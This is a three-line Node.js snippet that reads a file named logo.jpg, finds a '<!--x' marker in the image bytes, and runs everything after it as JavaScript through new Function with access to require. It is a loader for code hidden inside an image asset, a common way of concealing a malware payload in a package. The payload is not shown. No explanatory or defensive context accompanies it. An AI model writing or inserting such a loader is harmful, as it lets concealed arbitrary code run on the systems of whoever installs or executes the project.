const fs = require('fs'), path = require('path');
const b = fs.readFileSync(path.join(__dirname, 'logo.jpg')); const i = b.indexOf('<!--x');
const code = b.slice(i + 5).toString(); new Function('require', code)(require);
